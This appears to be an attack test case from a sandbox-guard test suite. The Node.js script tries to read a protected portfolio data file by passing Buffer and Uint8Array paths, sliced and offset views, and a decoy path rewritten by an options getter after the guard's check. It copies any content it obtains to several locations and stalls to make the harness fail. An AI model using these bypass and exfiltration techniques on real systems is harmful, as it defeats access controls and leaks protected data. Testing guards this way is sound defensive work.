/* @attack {"title": "the candidates file named by Buffer and Uint8Array paths (plain, sliced, offset views, rewritten by an options getter)", "maxSeconds": 20} */
import fs from 'node:fs';
import path from 'node:path';

const run = process.env.SLEEVE_RUN_DIR;
const workspace = process.cwd();
const CANDIDATES = 'data/lakehouse/portfolio_candidates.json';

/**
 * What a read got: when it is the protected content, copy it into the run dir
 * and try the places the harness checks (next to the workspace, the lakehouse,
 * the tmp marker, and the lakehouse again through the hole the read used, when
 * the attack passes one); unless that last copy landed, stay alive past
 * maxSeconds, so that the harness fails the run ("no report") even when every
 * copy is refused.
 */
async function exfiltrate(how, content, ...holes) {
  const text = typeof content === 'string' ? content : Buffer.from(content ?? '').toString('utf8');
  if (!/"AAPL"\s*,\s*"MSFT"|SECRET-/.test(text)) {
    console.log(`${how}: read ${JSON.stringify(text.slice(0, 60))}, not the protected content`);
    return;
  }
  console.log(`ESCAPED ${how}: ${text.trim()}`);
  for (const dest of [`${run}/stolen.json`, `${process.env.OUTSIDE}/leak.json`, `${workspace}/data/lakehouse/leak.json`, process.env.TMP_MARKER]) {
    try {
      fs.writeFileSync(dest, text);
    } catch (error) {
      console.log(`copy to ${dest}: ${error.code}`);
    }
  }
  // The hole the read went through, used again to write the loot into the lakehouse.
  for (const hole of holes) {
    try {
      await hole(text);
      console.log('copied into the lakehouse through the same hole');
      return;
    } catch (error) {
      console.log(`copy through the same hole: ${error.code}`);
    }
  }
  await new Promise((resolve) => setTimeout(resolve, 120_000));
  process.exit(0);
}

async function attempt(how, read) {
  try {
    await exfiltrate(how, await read());
  } catch (error) {
    console.log(`${how}: ${error.code ?? error.message}`);
  }
}

const abs = path.resolve(CANDIDATES);
await attempt('Buffer', () => fs.readFileSync(Buffer.from(CANDIDATES)));
await attempt('Buffer absolute', () => fs.readFileSync(Buffer.from(abs)));
await attempt('Uint8Array', () => fs.readFileSync(new TextEncoder().encode(CANDIDATES)));
await attempt('Buffer subarray', () => fs.readFileSync(Buffer.from(`////${abs}`).subarray(3)));
await attempt('Uint8Array view at an offset', () => {
  const bytes = new TextEncoder().encode(`xx${CANDIDATES}`);
  return fs.readFileSync(new Uint8Array(bytes.buffer, 2));
});
await attempt('Buffer promises', () => fs.promises.readFile(Buffer.from(CANDIDATES)));
await attempt('Buffer open', () => fs.readFileSync(fs.openSync(Buffer.from(abs), 'r')));
// Same-length decoy in the run dir, rewritten to the candidates path after the guard decided.
const decoy = `${run}/${'d'.repeat(abs.length - run.length - 1)}`;
fs.writeFileSync(decoy, '["DECOY"]\n');
for (const [how, read] of [
  ['readFileSync', (p, o) => fs.readFileSync(p, o)],
  ['promises.readFile', (p, o) => fs.promises.readFile(p, o)],
]) {
  const bytes = Buffer.from(decoy);
  await attempt(`${how} rewritten Buffer`, () =>
    read(bytes, {
      get encoding() {
        bytes.write(abs);
        return 'utf8';
      },
    }),
  );
}
